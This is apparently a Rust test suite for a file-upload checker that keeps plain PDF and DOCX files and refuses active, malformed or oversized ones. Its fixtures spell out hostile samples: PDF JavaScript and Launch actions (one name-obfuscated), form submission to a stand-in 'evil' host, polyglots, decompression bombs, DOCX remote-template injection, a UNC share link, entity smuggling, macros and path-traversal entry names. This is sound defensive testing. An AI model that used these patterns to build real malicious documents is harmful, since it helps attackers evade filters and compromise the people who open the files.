use std::io::Write as _;

use flate2::{Compression, write::ZlibEncoder};
use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;

/// A PDF of one page with these objects beside it.
pub(super) fn pdf(objects: &str) -> Vec<u8> {
    pdf_of(objects.as_bytes())
}

fn pdf_of(objects: &[u8]) -> Vec<u8> {
    let head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>\nendobj\n\
        2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n";
    let tail =
        b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 9>>\nstartxref\n9\n%%EOF\n";
    [&head[..], objects, tail].concat()
}

fn packed(content: &[u8]) -> Vec<u8> {
    let mut packer = ZlibEncoder::new(Vec::new(), Compression::best());
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

fn stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let head = format!(
        "7 0 obj\n<<{dictionary}/Length {}>>\nstream\r\n",
        data.len()
    );
    [head.as_bytes(), data, b"\nendstream\nendobj\n"].concat()
}

#[test]
fn plain_pdfs_are_kept_as_they_are() {
    let pages = stream(
        "/Filter/FlateDecode",
        &packed(b"BT /F1 12 Tf (JavaScript est un mot) Tj ET"),
    );
    let hidden = stream(
        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
        &packed(b"8 0 <</Type/Font>>"),
    );
    for objects in [
        &b""[..],
        &pages,
        &hidden,
        b"8 0 obj\n<</S/URI/URI(https://labo.sn)>>\nendobj\n",
    ] {
        let pdf = pdf_of(objects);
        let accepted = looked(pdf.clone()).unwrap();
        assert_eq!((accepted.kind, accepted.content()), (Kind::Pdf, pdf.into()));
        assert!(accepted.pixels.is_none() && accepted.thumbnail().is_none());
    }
}

#[test]
fn pdfs_that_do_something_are_refused() {
    for (objects, what) in [
        ("<</S/JavaScript/JS(app.alert(1))>>", "JavaScript"),
        ("<</S /J#61v#61Script /JS 9 0 R>>", "JavaScript"),
        ("<</S/Launch/F(cmd.exe)>>", "Launch"),
        ("<</Names<</EmbeddedFiles 9 0 R>>>>", "EmbeddedFiles"),
        ("<</Type/EmbeddedFile>>", "EmbeddedFile"),
        ("<</S/SubmitForm/F(http://evil)>>", "SubmitForm"),
        ("<</S/GoToE>>", "GoToE"),
        ("<</Subtype/RichMedia>>", "RichMedia"),
        ("<</XFA 9 0 R>>", "XFA"),
    ] {
        let plain = format!("8 0 obj\n{objects}\nendobj\n");
        assert_eq!(refused(pdf(&plain)), Refusal::Active(what), "{objects}");
        let inside = stream(
            "/Type/ObjStm/N 1/First 4/Filter[/FlateDecode]",
            &packed(objects.as_bytes()),
        );
        assert_eq!(
            refused(pdf_of(&inside)),
            Refusal::Active(what),
            "packed {objects}"
        );
        // Where a reader that follows the table may find an object.
        let data = stream("", plain.as_bytes());
        assert_eq!(
            refused(pdf_of(&data)),
            Refusal::Active(what),
            "in a stream {objects}"
        );
    }
    let twice = stream("/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]", b"GhQ");
    assert!(matches!(refused(pdf_of(&twice)), Refusal::Active(_)));
    let locked = pdf("").to_ascii_lowercase();
    let locked = String::from_utf8_lossy(&locked)
        .replace("/root", "/Encrypt 5 0 R/Root")
        .replace("%pdf", "%PDF");
    assert_eq!(
        refused(locked.replace("%%eof", "%%EOF").into_bytes()),
        Refusal::Encrypted
    );
}

#[test]
fn pdfs_that_are_two_things_are_refused() {
    let pdf = pdf("");
    let page =
        String::from_utf8_lossy(&pdf).replacen('\n', "\n%<HTML><Script>alert(1)</script>\n", 1);
    assert_eq!(refused(page.into_bytes()), Refusal::Kind);
    let hung = [&pdf[..], b"<script>alert(1)</script>"].concat();
    assert_eq!(refused(hung), Refusal::Damaged("pdf"));
    let archive = [&pdf[..], &docx(&[])].concat();
    assert_eq!(refused(archive), Refusal::Kind);
    let blank = [&pdf[..], b"\r\n\0\0 \n"].concat();
    looked(blank).unwrap();
    assert_eq!(
        refused(pdf[..pdf.len() - 8].to_vec()),
        Refusal::Damaged("pdf")
    );
    assert_eq!(refused(&b"%PDF-"[..]), Refusal::Damaged("pdf"));
    assert_eq!(
        refused(&b"%PDF-x.y\nstartxref\n%%EOF"[..]),
        Refusal::Damaged("pdf")
    );
}

#[test]
fn pdfs_that_grow_are_refused_in_bounded_memory() {
    let mega = packed(&vec![0; 64 * 1024 * 1024]);
    let bomb = stream("/Filter/FlateDecode", &mega);
    looked(pdf_of(&bomb)).unwrap();
    assert_eq!(refused(pdf_of(&bomb.repeat(6))), Refusal::Unpacks);
    let unsaid = stream("/Filter 6 0 R", &mega).repeat(6);
    assert_eq!(refused(pdf_of(&unsaid)), Refusal::Unpacks);
    let objects = stream("/Type/ObjStm/Filter/FlateDecode", &mega);
    assert_eq!(refused(pdf_of(&objects)), Refusal::Unpacks);
    let many = "1 0 obj\nendobj\n".repeat(200_001);
    assert_eq!(refused(pdf(&many)), Refusal::Unpacks);
}

/// Each would take hours if every stream were followed to its end.
#[test]
fn pdfs_made_to_be_slow_are_refused() {
    // Stored blocks of 9 bytes, each of which is the head of the next stream.
    let nested = b">>stream\n\x78\x9c\0\x09\0\xf6\xff".repeat(300_000);
    assert_eq!(refused(pdf_of(&nested)), Refusal::Unpacks);
    let bare = b">>stream\n".repeat(1_000_000);
    assert_eq!(refused(pdf_of(&bare)), Refusal::Unpacks);
    let many = stream("/Filter/FlateDecode", &packed(b"BT ET")).repeat(20_000);
    looked(pdf_of(&many)).unwrap();
}

const TYPES: &str = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
    <Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";

fn relations(kind: &str, target: &str) -> String {
    format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/\
         relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    )
}

/// A document with these parts besides the needed ones.
pub(super) fn docx(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let needed = [
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/document.xml", b"<w:document/>"),
    ];
    zip(&[&needed[..], parts].concat())
}

fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[test]
fn plain_documents_are_kept_as_they_are() {
    let link = relations("hyperlink", "https://labo.sn");
    for parts in [
        &[][..],
        &[("word/_rels/document.xml.rels", link.as_bytes())],
        &[("word/media/image1.png", b"\x89PNG")],
        &[(
            "word/styles.xml",
            "<w:style w:val=\"Normal\"/>".repeat(20_000).as_bytes(),
        )],
    ] {
        let docx = docx(parts);
        let accepted = looked(docx.clone()).unwrap();
        assert_eq!(
            (accepted.kind, accepted.content()),
            (Kind::Docx, docx.into())
        );
    }
}

#[test]
fn archives_that_are_no_documents_are_refused() {
    assert_eq!(refused(zip(&[("a.txt", b"x")])), Refusal::Kind);
    assert_eq!(
        refused(zip(&[
            ("[Content_Types].xml", b"<x/>"),
            ("xl/workbook.xml", b"<x/>")
        ])),
        Refusal::Kind
    );
    assert_eq!(
        refused(&b"PK\x03\x04 and no end"[..]),
        Refusal::Damaged("docx")
    );
    let docx = docx(&[]);
    assert_eq!(
        refused([&docx[..], b"<html>"].concat()),
        Refusal::Damaged("docx")
    );
    let before = [b"PK\x03\x04 something before", &docx[..]].concat();
    assert_eq!(refused(before), Refusal::Damaged("docx"));
}

#[test]
fn documents_that_do_something_are_refused() {
    let template = relations("attachedTemplate", "http://evil/x.dotm");
    let picture = relations("image", "\\\\evil\\share\\x.png");
    let hidden = relations("attachedTemplate", "x")
        .replace("TargetMode=\"External\"", "TargetMode=\"&#69;xternal\"");
    let macros = "<Types><Override PartName=\"/word/document.xml\" \
        ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    for (name, content, what) in [
        ("word/vbaProject.bin", &b"x"[..], "macros"),
        ("word/VBAPROJECT.BIN", b"x", "macros"),
        ("word/activeX/activeX1.xml", b"x", "controls"),
        ("word/embeddings/oleObject1.bin", b"x", "embedded file"),
        (
            "word/_rels/settings.xml.rels",
            template.as_bytes(),
            "external part",
        ),
        (
            "word/_rels/document.xml.rels",
            picture.as_bytes(),
            "external part",
        ),
        ("word/_rels/a.rels", hidden.as_bytes(), "external part"),
    ] {
        assert_eq!(
            refused(docx(&[(name, content)])),
            Refusal::Active(what),
            "{name}"
        );
    }
    let parts = [
        ("[Content_Types].xml", macros.as_bytes()),
        ("word/document.xml", b"<x/>"),
    ];
    assert_eq!(refused(zip(&parts)), Refusal::Active("macros"));
    let plain = b"<!DOCTYPE x><x/>";
    assert_eq!(
        refused(docx(&[("word/_rels/a.rels", plain)])),
        Refusal::Damaged("docx")
    );
    let entity = b"<!DOCTYPE x [<!ENTITY e \"External\">]><x TargetMode=\"&e;\"/>";
    assert_eq!(
        refused(docx(&[("word/_rels/a.rels", entity)])),
        Refusal::Damaged("docx")
    );
}

#[test]
fn names_of_parts_lead_nowhere() {
    for name in [
        "../evil.sh",
        "word/../../evil",
        "/etc/passwd",
        "C:evil",
        "word\\evil",
        "word/./x",
    ] {
        assert_eq!(
            refused(docx(&[(name, b"x")])),
            Refusal::Damaged("docx"),
            "{name}"
        );
    }
    assert_eq!(
        refused(docx(&[("WORD/Document.xml", b"x")])),
        Refusal::Damaged("docx")
    );
}

#[test]
fn documents_that_grow_are_refused() {
    let blank = vec![b' '; 16 * 1024 * 1024];
    assert_eq!(refused(docx(&[("word/a.xml", &blank)])), Refusal::Unpacks);
    // What the archive says of itself is not believed.
    let mut lying = docx(&[("word/a.xml", &blank)]);
    let length = u32::try_from(blank.len()).unwrap().to_le_bytes();
    while let Some(at) = find(&lying, &length, 0) {
        lying.splice(at..at + 4, 16_u32.to_le_bytes());
    }
    let refusal = refused(lying);
    assert!(
        matches!(refusal, Refusal::Unpacks | Refusal::Damaged(_)),
        "{refusal}"
    );
    let many: Vec<String> = (0..2_000).map(|n| format!("word/{n}.xml")).collect();
    let many: Vec<_> = many.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    assert_eq!(refused(docx(&many)), Refusal::Unpacks);
}
